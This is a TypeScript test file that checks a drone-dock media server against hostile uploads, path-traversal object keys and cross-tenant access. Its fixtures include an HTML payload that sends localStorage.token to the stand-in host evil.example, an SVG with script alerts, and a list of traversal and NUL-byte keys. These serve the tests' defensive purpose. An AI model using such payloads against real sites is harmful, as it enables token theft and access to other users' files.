/**
 * Hostile media from a dock. A dock uploads whatever bytes it likes, with whatever content type, to
 * its own folder, and names object keys of its choosing in `file_upload_callback` and `ai_alarm`.
 * The console must serve such files by what they are (never as a page on its own origin), and a
 * dock must not claim, read or delete objects outside its folder — another project's least of all.
 */
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MediaFile, MediaListPage } from '../../protocol/media.ts';
import { MEDIA_API } from '../../protocol/media.ts';
import { ingestAiAlarm } from '../../server/ai/ingestAiAlarm.ts';
import { signedSnapshotPath } from '../../server/ai/snapshotLink.ts';
import { registerMediaFile } from '../../server/media/registerMediaFile.ts';
import { storageConfigFor } from '../../server/media/storageConfigRequest.ts';
import { readUploadCallback } from '../../server/media/uploadCallback.ts';
import type { Log } from '../../server/runtime/log.ts';
import { buildFleet, DEFAULT_CENTER } from '../../server/sim/fleet.ts';
import { s3Upload, readStorageGrant } from '../../server/sim/media/simUpload.ts';
import { registerSimFleet } from '../../server/sim/registerSimFleet.ts';
import { seeded } from './helpers/accounts.ts';
import type { Seeded } from './helpers/accounts.ts';
import { backends } from './helpers/backends.ts';
import { startServer } from './helpers/testServer.ts';
import type { TestServer } from './helpers/testServer.ts';

const HTML = new TextEncoder().encode(
  '<!doctype html><script>fetch("//evil.example/?t="+localStorage.token)</script>',
);
const SVG = new TextEncoder().encode(
  '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload="alert(document.domain)">' +
    '<rect width="8" height="8" fill="red"/><script>alert(localStorage.token)</script></svg>',
);

async function jpeg(): Promise<Uint8Array> {
  const bytes = await sharp({
    create: { width: 64, height: 48, channels: 3, background: { r: 10, g: 90, b: 200 } },
  })
    .jpeg()
    .toBuffer();
  return new Uint8Array(bytes);
}

/** A minimal `file_upload_callback` body naming `key`. */
const callback = (key: string, name = key.split('/').at(-1) ?? 'x') => ({
  result: 0,
  file: { object_key: key, name, ext: {}, metadata: {} },
});

describe('hostile media from docks', () => {
  let server: TestServer;
  let s: Seeded;
  const warnings: string[] = [];
  const log: Log = {
    info: () => undefined,
    warn: (m) => warnings.push(m),
    error: (m) => warnings.push(m),
  };
  const fleetA = buildFleet({ drones: 1, seed: 21, center: DEFAULT_CENTER, prefix: 'HA' });
  const fleetB = buildFleet({ drones: 1, seed: 22, center: DEFAULT_CENTER, prefix: 'HB' });
  const dockA = fleetA[0]?.dock.sn ?? '';
  const dockB = fleetB[0]?.dock.sn ?? '';
  const droneA = fleetA[0]?.aircraft.sn ?? '';
  const droneB = fleetB[0]?.aircraft.sn ?? '';

  /** Uploads through the embedded S3 endpoint with the dock's own `storage_config_get` grant. */
  async function upload(dock: string, key: string, body: Uint8Array, contentType: string) {
    const output = storageConfigFor(
      {
        tokenSecret: server.handle.deps.tokenSecret,
        baseUrl: () => server.url,
        region: 'us-east-1',
        now: () => Date.now(),
      },
      dock,
    );
    const grant = readStorageGrant(output);
    if (!grant) throw new Error('incomplete grant');
    await s3Upload(grant, key, body, contentType);
  }
  /** What the media pipeline does with a dock's callback naming `key`. */
  function report(dock: string, key: string): Promise<number | null> {
    const file = readUploadCallback(callback(key));
    if (!file) throw new Error('unreadable callback');
    return registerMediaFile(
      { db: server.handle.db, storage: server.handle.deps.storage, log },
      dock,
      file,
    );
  }
  const listOf = async (workspace: number, token: string): Promise<MediaFile[]> =>
    (
      await server.call<MediaListPage>('GET', MEDIA_API.list, {
        token,
        query: { workspace_id: workspace, size: 100 },
      })
    ).body.data.rows;
  const fileOf = async (id: number, workspace = s.home, token = s.viewer): Promise<MediaFile> => {
    const file = (await listOf(workspace, token)).find((f) => f.id === id);
    if (!file) throw new Error(`file ${String(id)} not listed`);
    return file;
  };
  const mediaRows = async (): Promise<{ workspace_id: number; object_key: string }[]> =>
    server.handle.db.query('select workspace_id, object_key from media_files order by id');

  beforeAll(async () => {
    const pglite = backends[0];
    if (!pglite) throw new Error('no backend');
    server = await startServer(pglite);
    s = await seeded(server);
    await registerSimFleet(server.handle.db, s.home, fleetA, 'k');
    await registerSimFleet(server.handle.db, s.other, fleetB, 'k');
  });
  afterAll(() => server.close());

  function expectDownload(answer: Response, name: string) {
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('application/octet-stream');
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="/);
    expect(answer.headers.get('content-disposition')).toContain(name);
    expectSafetyHeaders(answer);
  }
  function expectSafetyHeaders(answer: Response) {
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    const csp = answer.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain('sandbox');
  }

  it('serves an uploaded HTML page and SVG as downloads, whatever type they were uploaded with', async () => {
    await upload(dockA, `media/${dockA}/f1/page.html`, HTML, 'text/html');
    await upload(dockA, `media/${dockA}/f1/logo.svg`, SVG, 'image/svg+xml');
    // A page that claims to be a photo, by name and by type.
    await upload(dockA, `media/${dockA}/f1/DJI_0001.jpeg`, HTML, 'image/jpeg');
    const cases = [
      ['page.html', HTML],
      ['logo.svg', SVG],
      ['DJI_0001.jpeg', HTML],
    ] as const;
    for (const [name, bytes] of cases) {
      const id = await report(dockA, `media/${dockA}/f1/${name}`);
      if (id === null) throw new Error(`${name} was not registered`);
      const file = await fileOf(id);
      const answer = await fetch(new URL(file.file_url, server.url));
      expectDownload(answer, name);
      expect(new Uint8Array(await answer.arrayBuffer())).toEqual(bytes);
      // Nor is any of them handed to an image renderer for a thumbnail.
      expect((await fetch(new URL(file.thumb_url, server.url))).status).toBe(404);
    }
  });

  it('shows a real JPEG inline as image/jpeg, and as a download when asked', async () => {
    const photo = await jpeg();
    await upload(dockA, `media/${dockA}/f1/DJI_0002.jpeg`, photo, 'application/octet-stream');
    const id = await report(dockA, `media/${dockA}/f1/DJI_0002.jpeg`);
    if (id === null) throw new Error('not registered');
    const file = await fileOf(id);
    const inline = await fetch(new URL(file.file_url, server.url));
    expect(inline.status).toBe(200);
    expect(inline.headers.get('content-type')).toBe('image/jpeg');
    expect(inline.headers.get('content-disposition')).toBeNull();
    expectSafetyHeaders(inline);
    expect(new Uint8Array(await inline.arrayBuffer())).toEqual(photo);
    const thumb = await fetch(new URL(file.thumb_url, server.url));
    expect(thumb.headers.get('content-type')).toBe('image/jpeg');
    expectSafetyHeaders(thumb);
    const url = new URL(file.file_url, server.url);
    url.searchParams.set('download', '1');
    const download = await fetch(url);
    expect(download.headers.get('content-type')).toBe('image/jpeg');
    expect(download.headers.get('content-disposition')).toContain('attachment');
  });

  it("registers nothing when a dock reports another dock's key, and the owner keeps its file", async () => {
    const key = `media/${dockB}/f9/DJI_0009.jpeg`;
    const photo = await jpeg();
    await upload(dockB, key, photo, 'image/jpeg');
    const before = await mediaRows();
    warnings.length = 0;
    expect(await report(dockA, key)).toBeNull();
    expect(await mediaRows()).toEqual(before);
    expect(warnings.join('\n')).toContain(`outside its folder media/${dockA}/`);
    // The owner's own callback still registers it, in its own project.
    const id = await report(dockB, key);
    expect(id).toEqual(expect.any(Number));
    expect((await fileOf(id ?? 0, s.other, s.admin)).name).toBe('DJI_0009.jpeg');
    expect(await server.handle.deps.storage.head(key)).toBeDefined();
  });

  it("never serves nor deletes another dock's object through a row that names it", async () => {
    // A row as registration made it before it checked folders: dock A's, in A's project, naming an
    // object in dock B's folder.
    const key = `media/${dockB}/f9/DJI_0010.jpeg`;
    await upload(dockB, key, await jpeg(), 'image/jpeg');
    const [row] = await server.handle.db.query<{ id: number }>(
      `insert into media_files (workspace_id, object_key, name, kind, gateway_sn, shot_at)
       values ($1, $2, 'DJI_0010.jpeg', 'photo', $3, now()) returning id`,
      [s.home, key, dockA],
    );
    const file = await fileOf(row?.id ?? 0);
    expect((await fetch(new URL(file.file_url, server.url))).status).toBe(404);
    const done = await server.call('POST', MEDIA_API.del, {
      token: s.operator,
      body: { workspace_id: s.home, ids: [file.id] },
    });
    expect(done.status).toBe(200);
    expect(await server.handle.deps.storage.head(key)).toBeDefined();
  });

  it('refuses keys with traversal, a leading slash, backslashes or NUL', async () => {
    await upload(dockA, `media/${dockA}/f2/DJI_0003.jpeg`, await jpeg(), 'image/jpeg');
    const before = await mediaRows();
    const bad = [
      `media/${dockA}/../${dockB}/f9/DJI_0009.jpeg`,
      `media/${dockA}/f2/../../${dockB}/f9/DJI_0009.jpeg`,
      `/media/${dockA}/f2/DJI_0003.jpeg`,
      `media/${dockA}\\f2\\DJI_0003.jpeg`,
      `media/${dockA}/f2/DJI_0003.jpeg\u0000.html`,
      `media/${dockA}/./f2/DJI_0003.jpeg`,
      `media/${dockA}//f2/DJI_0003.jpeg`,
      `media/${dockA}`,
      `media/${dockA}/`,
      `media/${dockA}-evil/f2/DJI_0003.jpeg`,
    ];
    warnings.length = 0;
    for (const key of bad) await expect(report(dockA, key), key).resolves.toBeNull();
    expect(await mediaRows()).toEqual(before);
    expect(warnings).toHaveLength(bad.length);
  });

  it('gives each object one row: a thumbnail is never registered as a file of its own', async () => {
    // A thumbnail stored in the dock's folder, as registration used to put them.
    const key = `media/${dockA}/f3/DJI_0004.jpeg`;
    const thumb = `${key}-thumb.jpg`;
    await upload(dockA, key, await jpeg(), 'image/jpeg');
    await upload(dockA, thumb, await jpeg(), 'image/jpeg');
    await server.handle.db.query(
      `insert into media_files (workspace_id, object_key, thumb_key, name, kind, gateway_sn, shot_at)
       values ($1, $2, $3, 'DJI_0004.jpeg', 'photo', $4, now())`,
      [s.home, key, thumb, dockA],
    );
    expect(await report(dockA, thumb)).toBeNull();
    // Thumbnails made now live outside the dock's folder, out of its reach.
    await upload(dockA, `media/${dockA}/f3/DJI_0005.jpeg`, await jpeg(), 'image/jpeg');
    const id = await report(dockA, `media/${dockA}/f3/DJI_0005.jpeg`);
    const [made] = await server.handle.db.query<{ thumb_key: string }>(
      'select thumb_key from media_files where id = $1',
      [id],
    );
    expect(made?.thumb_key).toMatch(/^media-thumbs\//);
  });

  describe('AI alarm snapshots', () => {
    const detection = (id: string, snapshotKey: string) => ({
      alarm_id: id,
      category: 'fire',
      confidence: 0.9,
      snapshot_key: snapshotKey,
    });
    const snapshotKeyOf = async (id: number | null) =>
      (
        await server.handle.db.query<{ snapshot_key: string | null }>(
          'select snapshot_key from ai_alarms where id = $1',
          [id],
        )
      )[0]?.snapshot_key;
    const ingest = (sn: string, id: string, key: string) =>
      ingestAiAlarm(
        server.handle.db,
        server.handle.deps.aiAlarms,
        sn,
        detection(id, key),
        Date.now(),
      );

    beforeAll(async () => {
      const storage = server.handle.deps.storage;
      await storage.put(`ai-alarms/${droneA}/own.jpg`, await jpeg(), 'image/jpeg');
      await storage.put(`ai-alarms/${droneA}/held.jpg`, await jpeg(), 'image/jpeg');
      await storage.put(`ai-alarms/${droneB}/theirs.jpg`, await jpeg(), 'image/jpeg');
      await storage.put(`ai-alarms/${droneA}/page.html`, HTML, 'text/html');
    });

    it("links a snapshot in the device's own folder and serves it by what it is", async () => {
      const id = await ingest(droneA, 'own-1', `ai-alarms/${droneA}/own.jpg`);
      expect(await snapshotKeyOf(id)).toBe(`ai-alarms/${droneA}/own.jpg`);
      const path = signedSnapshotPath(server.handle.deps.tokenSecret, id ?? 0, Date.now());
      const image = await fetch(new URL(path, server.url));
      expect(image.headers.get('content-type')).toBe('image/jpeg');
      expectSafetyHeaders(image);
      const pageId = await ingest(droneA, 'own-page', `ai-alarms/${droneA}/page.html`);
      const pagePath = signedSnapshotPath(server.handle.deps.tokenSecret, pageId ?? 0, Date.now());
      expectDownload(await fetch(new URL(pagePath, server.url)), `alarm-${String(pageId)}`);
    });

    it("links no snapshot from another device's folder, by traversal, or another alarm's", async () => {
      const foreign = await ingest(droneA, 'foreign-1', `ai-alarms/${droneB}/theirs.jpg`);
      expect(await snapshotKeyOf(foreign)).toBeNull();
      const traversal = await ingest(
        droneA,
        'dots-1',
        `ai-alarms/${droneA}/../${droneB}/theirs.jpg`,
      );
      expect(traversal).toEqual(expect.any(Number));
      expect(await snapshotKeyOf(traversal)).toBeNull();
      const media = await ingest(droneA, 'media-1', `media/${dockB}/f9/DJI_0009.jpeg`);
      expect(await snapshotKeyOf(media)).toBeNull();
      // held.jpg is alarm holder-1's: deleting either alarm would take it from the other.
      const holder = await ingest(droneA, 'holder-1', `ai-alarms/${droneA}/held.jpg`);
      expect(await snapshotKeyOf(holder)).toBe(`ai-alarms/${droneA}/held.jpg`);
      const shared = await ingest(droneA, 'shared-1', `ai-alarms/${droneA}/held.jpg`);
      expect(await snapshotKeyOf(shared)).toBeNull();
    });
  });
});
